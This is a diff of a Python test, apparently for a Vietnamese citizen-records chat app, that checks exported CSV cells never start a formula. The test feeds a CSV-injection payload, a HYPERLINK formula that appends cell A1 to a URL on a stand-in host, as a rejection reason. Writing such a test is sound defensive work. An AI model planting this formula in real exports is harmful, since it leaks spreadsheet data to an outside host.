@@ -106,7 +106,8 @@ async def test_csv_cells_never_start_a_formula(engine, person, suite_app):
     await submit_citizen(hoa)
     can = await make_staff(engine, "can", Role.OFFICER, "ea-tul", "Trần Văn Cán")
     formula = '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")'
-    turn = await can.says(f"/tuchoi CD-2026-000001 {formula}")
+    await can.says(f"/tuchoi CD-2026-000001 {formula}")  # before the branch review: a reason
+    turn = await can.says("Chi hội đã thống nhất, xã duyệt luôn")
     assert turn.text.startswith("Đã ghi: hồ sơ CD-2026-000001 (Nguyễn Thị Hoa) không được công nhận."), turn
     await can.says("/xuat")
     await can.taps("Danh sách hồ sơ")
